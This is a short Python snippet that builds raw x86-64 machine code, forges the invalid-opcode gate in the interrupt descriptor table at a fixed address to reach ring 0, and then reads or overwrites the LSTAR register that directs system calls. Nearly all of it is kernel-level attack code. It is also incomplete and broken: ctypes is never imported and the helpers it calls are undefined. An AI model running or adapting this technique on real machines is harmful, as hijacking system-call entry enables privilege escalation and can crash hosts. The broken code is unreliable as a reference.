# Forges the gate of #UD and comes to ring 0 with it, wherever the program runs, to write
# the MSR that says where system calls go ("write") and to read it.
import struct
IDT, LSTAR, MARK = 0x15000, 0xC0000082, 0x00007A7A7A7A7000
found = ctypes.c_uint64()
def handler(event, context):
    body = b"\x50\x51\x52\xb9" + struct.pack("<I", LSTAR)  # push %rax, %rcx, %rdx; mov $LSTAR, %ecx
    if event["write"]:
        body += b"\xb8" + struct.pack("<I", MARK & 0xFFFFFFFF) + b"\xba" + struct.pack("<I", MARK >> 32) + b"\x0f\x30"  # wrmsr
    body += b"\x0f\x32\x48\xc1\xe2\x20\x48\x09\xc2"  # rdmsr; shl $32, %rdx; or %rax, %rdx
    body += b"\x48\xb8" + struct.pack("<Q", ctypes.addressof(found)) + b"\x48\x89\x10"  # mov %rdx, found
    body += b"\x5a\x59\x58\x48\x83\x04\x24\x02\x48\xcf"  # the registers back; add $2, (%rsp); iretq
    at = code(*body)
    gate = struct.pack("<HHHHII", at & 0xFFFF, 0x08, 0x8E01, at >> 16 & 0xFFFF, at >> 32, 0)
    ctypes.memmove(IDT + 6 * 16, gate, 16)
    jump(code(0x0F, 0x0B, 0xC3))  # ud2; ret
    return found.value == MARK
